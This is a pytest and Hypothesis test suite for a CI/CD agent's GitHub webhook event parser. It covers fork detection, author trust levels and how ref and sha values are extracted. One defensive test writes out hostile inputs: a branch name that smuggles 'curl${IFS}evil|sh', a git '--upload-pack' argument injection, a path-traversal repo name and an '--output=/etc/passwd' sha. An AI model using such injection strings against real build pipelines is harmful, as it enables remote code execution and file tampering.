"""Events are read leniently: whatever GitHub, or anybody else, puts into the payload."""

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cicd_agent.domain.events.event import Actor, Event, EventKind, Ref, Trust
from cicd_agent.domain.events.event_parser import RunContext, local_event, parse_event
from tests.support.payloads.examples import official, official_payloads

A, B, C = "a" * 40, "b" * 40, "c" * 64
ZERO = "0" * 40
RUN = RunContext(
    repository="octo-org/octo-repo",
    sha=C,
    ref="refs/heads/main",
    base_ref="main",
    head_ref="topic",
    actor="octocat",
    run_id="1234",
    run_attempt="2",
)
NOWHERE = RunContext()

JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda children: st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=8), children, max_size=4),
    max_leaves=12,
)


def well_formed(event: Event) -> None:
    """What must hold of every event, whatever it was read from."""
    for sha in (event.sha, event.base.sha, event.head.sha):
        assert sha == "" or (len(sha) in (40, 64) and set(sha) <= set("0123456789abcdef") and set(sha) != {"0"})
    for repo in (event.repo, event.base.repo, event.head.repo):
        assert repo == "" or repo.count("/") == 1
    assert event.pull is None or event.pull.number > 0
    assert event.run is None or (event.run.id > 0 and all(number > 0 for number in event.run.pulls))
    repr(event).encode()  # nothing in it is beyond encoding


@pytest.mark.parametrize("name", sorted(official_payloads()))
def test_every_official_example_is_read(name: str) -> None:
    for payload in official_payloads()[name]:
        event = parse_event(name, payload, run=RUN)
        well_formed(event)
        assert event.name == name
        assert event.repo
        assert event.action == payload.get("action", "")
        assert event.actor.login == payload.get("sender", {}).get("login", "octocat")


@pytest.mark.parametrize("name", ["pull_request", "pull_request_target"])
def test_official_pull_requests_have_everything_a_review_needs(name: str) -> None:
    for payload in official_payloads()["pull_request"]:
        event = parse_event(name, payload, run=RUN)
        assert event.kind == name
        assert event.pull is not None
        assert event.pull.author.login
        assert event.sha == event.head.sha == payload["pull_request"]["head"]["sha"]
        assert event.base.sha == payload["pull_request"]["base"]["sha"]
        assert not event.pull.from_fork


@pytest.mark.parametrize("kind", EventKind)
def test_an_empty_payload_is_an_empty_event(kind: EventKind) -> None:
    event = parse_event(kind, {}, run=NOWHERE)
    well_formed(event)
    assert (event.repo, event.sha, event.pull, event.run, event.comment) == ("", "", None, None, None)
    assert event.actor == Actor()


@pytest.mark.parametrize("name", ["local", "other", "", "pull_request\n", "PUSH", "workflow_job"])
def test_a_name_that_is_not_served_is_other_and_kept(name: str) -> None:
    event = parse_event(name, official("push"), run=RUN)
    assert (event.kind, event.name) == (EventKind.OTHER, name)
    assert event.trust is Trust.STRANGER
    assert event.sha == ""


@given(name=st.sampled_from(EventKind) | st.text(max_size=20), payload=st.dictionaries(st.text(max_size=8), JSON))
def test_arbitrary_json_is_an_event(name: str, payload: dict[str, Any]) -> None:
    well_formed(parse_event(name, payload, run=RUN))


def places(value: object, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """The path of every node below `value`."""
    items: list[tuple[Any, Any]] = []
    if isinstance(value, dict):
        items = list(value.items())
    elif isinstance(value, list):
        items = list(enumerate(value))
    return [deeper for key, item in items for deeper in ((*path, key), *places(item, (*path, key)))]


@given(data=st.data(), name=st.sampled_from([kind.value for kind in EventKind if kind in official_payloads()]))
def test_official_payloads_with_anything_dropped_or_replaced_are_events(data: st.DataObject, name: str) -> None:
    payload = official(name, data.draw(st.sampled_from([p.get("action", "") for p in official_payloads()[name]])))
    for _ in range(data.draw(st.integers(1, 4))):
        *path, key = data.draw(st.sampled_from(places(payload)))
        parent: Any = payload
        for step in path:
            parent = parent[step]
        if data.draw(st.booleans()):
            del parent[key]
        else:
            parent[key] = data.draw(JSON)
        if not payload:
            break
    well_formed(parse_event(name, payload, run=NOWHERE))


def test_a_deleted_fork_is_a_fork_without_a_name() -> None:
    payload = official("pull_request")
    payload["pull_request"]["head"]["repo"] = None
    event = parse_event("pull_request", payload, run=RUN)
    assert event.pull is not None
    assert event.pull.from_fork
    assert event.head.repo == ""
    assert event.head.sha


def test_a_fork_is_told_by_id_even_when_it_took_the_name() -> None:
    payload = official("pull_request")
    payload["pull_request"]["head"]["repo"]["id"] += 1
    event = parse_event("pull_request", payload, run=RUN)
    assert event.pull is not None
    assert event.pull.from_fork


def test_without_ids_a_fork_is_told_by_name_whatever_its_case() -> None:
    payload = official("pull_request")
    head = payload["pull_request"]["head"]["repo"]
    del head["id"]
    head["full_name"] = head["full_name"].upper()
    same = parse_event("pull_request", payload, run=RUN)
    head["full_name"] = "somebody/Hello-World"
    other = parse_event("pull_request", payload, run=RUN)
    assert same.pull is not None
    assert other.pull is not None
    assert (same.pull.from_fork, other.pull.from_fork) == (False, True)


def test_a_pull_request_without_a_number_is_none() -> None:
    for number in (None, 0, -3, True, "7", 2.0, 2**63):
        payload = {"pull_request": {"number": number, "title": "t"}}
        assert parse_event("pull_request", payload, run=RUN).pull is None


@pytest.mark.parametrize(
    ("association", "trust"),
    [
        ("OWNER", Trust.WRITER),
        ("MEMBER", Trust.WRITER),
        ("COLLABORATOR", Trust.WRITER),
        ("CONTRIBUTOR", Trust.KNOWN),
        ("FIRST_TIME_CONTRIBUTOR", Trust.STRANGER),
        ("NONE", Trust.STRANGER),
        ("owner", Trust.STRANGER),
        (None, Trust.STRANGER),
        (["OWNER"], Trust.STRANGER),
    ],
)
def test_trust_is_that_of_the_author_of_the_text(association: object, trust: Trust) -> None:
    pull = official("pull_request")
    pull["pull_request"]["author_association"] = association
    comment = official("issue_comment")
    comment["comment"]["author_association"] = association
    assert parse_event("pull_request", pull, run=RUN).trust is trust
    assert parse_event("issue_comment", comment, run=RUN).trust is trust


def test_somebody_who_labels_a_strangers_pull_request_lends_it_no_trust() -> None:
    payload = official("pull_request", "labeled")
    payload["pull_request"]["author_association"] = "NONE"
    payload["pull_request"]["user"]["login"] = "stranger"
    event = parse_event("pull_request", payload, run=RUN)
    assert event.trust is Trust.STRANGER
    assert event.actor == Actor("Codertocat")


@pytest.mark.parametrize("user", [{"login": "renovate[bot]"}, {"login": "robot", "type": "Bot"}])
def test_bots_are_known_by_type_or_by_name(user: dict[str, str]) -> None:
    payload = official("pull_request")
    payload["pull_request"]["user"] = payload["sender"] = user
    event = parse_event("pull_request", payload, run=RUN)
    assert event.pull is not None
    assert event.pull.author.is_bot
    assert event.actor.is_bot


def test_a_push_compares_with_the_commit_before_it() -> None:
    payload = {"ref": "refs/heads/feature/x", "before": A, "after": B, "repository": {"full_name": "o/r"}}
    event = parse_event("push", payload, run=RUN)
    assert event.sha == B
    assert (event.base, event.head) == (Ref("feature/x", A, "o/r"), Ref("feature/x", B, "o/r"))
    assert event.trust is Trust.WRITER


def test_a_new_branch_has_no_commit_before_it() -> None:
    event = parse_event("push", {"ref": "refs/heads/new", "before": ZERO, "after": B, "created": True}, run=RUN)
    assert (event.base.sha, event.sha) == ("", B)


def test_a_deleted_branch_has_no_commit_after_it() -> None:
    event = parse_event("push", {"ref": "refs/heads/old", "before": A, "after": ZERO, "deleted": True}, run=RUN)
    assert (event.base.sha, event.sha) == (A, "")


def test_a_pushed_tag_goes_by_its_name() -> None:
    event = parse_event("push", {"ref": "refs/tags/v1.0", "before": ZERO, "after": B}, run=RUN)
    assert event.head == Ref("v1.0", B, "octo-org/octo-repo")


def test_a_push_that_does_not_say_where_it_ends_is_at_the_runs_commit_and_a_wrong_end_is_no_end() -> None:
    assert parse_event("push", {"ref": "refs/heads/main"}, run=RUN).sha == C
    assert parse_event("push", {"ref": "refs/heads/main", "after": "HEAD"}, run=RUN).sha == ""


def test_a_merge_group_is_reviewed_against_its_base() -> None:
    payload = {
        "merge_group": {
            "base_ref": "refs/heads/main",
            "base_sha": A,
            "head_ref": "refs/heads/gh-readonly-queue/main/pr-1",
            "head_sha": B,
        }
    }
    event = parse_event("merge_group", payload, run=RUN)
    assert (event.base.name, event.base.sha) == ("main", A)
    assert (event.head.name, event.sha) == ("gh-readonly-queue/main/pr-1", B)


def run_payload(**run: object) -> dict[str, Any]:
    here = {"id": 5, "full_name": "o/r"}
    return {
        "repository": here,
        "workflow_run": {"id": 9, "event": "push", "head_sha": A, "head_repository": here, **run},
    }


def test_a_workflow_run_of_a_fork_has_no_pull_requests_and_a_strangers_trust() -> None:
    payload = run_payload(event="pull_request", head_repository={"id": 6, "full_name": "x/r"}, pull_requests=[])
    event = parse_event("workflow_run", payload, run=RUN)
    assert event.run is not None
    assert event.run.pulls == ()
    assert event.trust is Trust.STRANGER
    assert (event.sha, event.head.repo) == (A, "x/r")


@pytest.mark.parametrize(
    ("cause", "trust"),
    [("push", Trust.WRITER), ("pull_request", Trust.WRITER), ("issue_comment", Trust.STRANGER), ("", Trust.STRANGER)],
)
def test_a_workflow_run_is_trusted_when_only_a_writer_can_have_caused_it(cause: str, trust: Trust) -> None:
    assert parse_event("workflow_run", run_payload(event=cause), run=RUN).trust is trust


def test_pull_requests_of_other_repositories_that_share_the_commit_are_left_out() -> None:
    pulls = [
        {"number": 1, "base": {"repo": {"id": 5}}},
        {"number": 2, "base": {"repo": {"id": 6}}},
        {"number": 3},
        {"number": None},
    ]
    event = parse_event("workflow_run", run_payload(pull_requests=pulls, run_attempt=3), run=RUN)
    assert event.run is not None
    assert (event.run.pulls, event.run.attempt) == ((1, 3), 3)


def test_a_dispatch_keeps_its_inputs_as_text() -> None:
    payload = {"ref": "refs/heads/x", "inputs": {"number": 12, "dry": True, "name": "a\nb", "odd": ["x"], "no": None}}
    event = parse_event("workflow_dispatch", payload, run=RUN)
    assert event.inputs == {"number": "12", "dry": "true", "name": "a\nb"}
    assert event.head == Ref("x", C, "octo-org/octo-repo")


def test_a_schedule_is_at_the_commit_of_the_run() -> None:
    event = parse_event("schedule", {"schedule": "0 0 * * *"}, run=RUN)
    assert (event.sha, event.head.name, event.repo) == (C, "main", "octo-org/octo-repo")
    assert event.actor == Actor("octocat")


def test_a_deployment_names_its_commit_and_its_environment() -> None:
    event = parse_event("deployment", official("deployment"), run=RUN)
    assert event.deployment is not None
    assert event.deployment.environment == "production"
    assert event.sha == event.deployment.sha != ""


def test_a_release_is_at_the_commit_of_its_tag_not_where_the_tag_was_made_from() -> None:
    payload = official("release")
    payload["release"]["target_commitish"] = B
    event = parse_event("release", payload, run=RUN)
    assert (event.sha, event.head.name) == (C, payload["release"]["tag_name"])


def test_a_comment_on_a_pull_request_knows_its_number_but_not_its_commit() -> None:
    payload = official("issue_comment")
    on_issue = parse_event("issue_comment", payload, run=RUN)
    payload["issue"]["pull_request"] = {"diff_url": "…"}
    on_pull = parse_event("issue_comment", payload, run=RUN)
    assert on_issue.pull is None
    assert on_pull.pull is not None
    assert on_pull.pull.number == payload["issue"]["number"]
    assert on_pull.sha == ""
    assert on_pull.pull.from_fork
    assert on_pull.comment is not None
    assert on_pull.comment.body == payload["comment"]["body"]


def test_hostile_text_is_kept_and_hostile_names_are_not() -> None:
    payload = official("pull_request")
    pull = payload["pull_request"]
    pull["title"] = "x\nEOF\n::error::fake \udcff"
    pull["head"]["ref"] = 'a";curl${IFS}evil|sh;"'
    pull["base"]["ref"] = "main\n--upload-pack=evil"
    pull["head"]["repo"]["full_name"] = "../../../evil"
    pull["head"]["sha"] = "--output=/etc/passwd"
    event = parse_event("pull_request", payload, run=NOWHERE)
    assert event.pull is not None
    assert event.pull.title == "x\nEOF\n::error::fake ?"
    assert event.head == Ref('a";curl${IFS}evil|sh;"', "", "")
    assert event.base.name == ""


def test_the_delivery_names_the_run_that_the_event_started() -> None:
    assert parse_event("schedule", {}, run=RUN).delivery == "1234.2"
    assert parse_event("schedule", {}, run=NOWHERE).delivery == ""


def test_a_run_at_a_terminal_is_trusted_and_at_its_head() -> None:
    event = local_event(Ref("main", A), Ref("topic", B), actor="me")
    assert (event.kind, event.sha, event.base.sha, event.trust) == (EventKind.LOCAL, B, A, Trust.WRITER)
